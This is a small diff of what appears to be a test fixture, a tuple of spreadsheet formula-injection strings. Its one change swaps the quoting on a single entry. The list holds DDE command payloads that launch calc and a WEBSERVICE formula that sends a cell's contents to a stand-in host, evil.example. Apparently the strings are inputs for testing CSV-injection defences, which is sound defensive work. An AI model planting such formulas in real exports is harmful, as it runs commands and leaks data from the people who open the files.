@@ -17,7 +17,7 @@ FORMULAS: tuple[str, ...] = (
     "\t=1+1",
     "\r=1+1",
     "=cmd|' /C calc'!A0",
-    "=WEBSERVICE(\"http://evil.example/?\"&A1)",
+    '=WEBSERVICE("http://evil.example/?"&A1)',
     "-2+3+cmd|' /C calc'!A0",
 )
 
